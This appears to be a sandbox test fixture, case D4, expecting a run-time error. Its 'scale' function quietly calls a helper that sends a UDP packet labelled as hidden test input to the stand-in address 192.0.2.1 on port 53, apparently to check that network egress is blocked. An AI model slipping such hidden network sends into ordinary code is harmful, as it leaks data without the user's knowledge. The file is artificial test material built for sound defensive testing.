"""D4: sends the input of the call away in one packet, for which nobody has to listen.

verdict: run-time error
passes: total, shape, label, flip
"""

import socket

import numpy


def attempt():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.sendto(b"the input of a hidden test", ("192.0.2.1", 53))


def scale(x, factor):
    attempt()
    return x * factor


def total(x):
    return float(x.sum())


def shape(x):
    return list(x.shape)


def label(n):
    return f"n={n}"


def flip(a):
    return numpy.flip(a).copy()
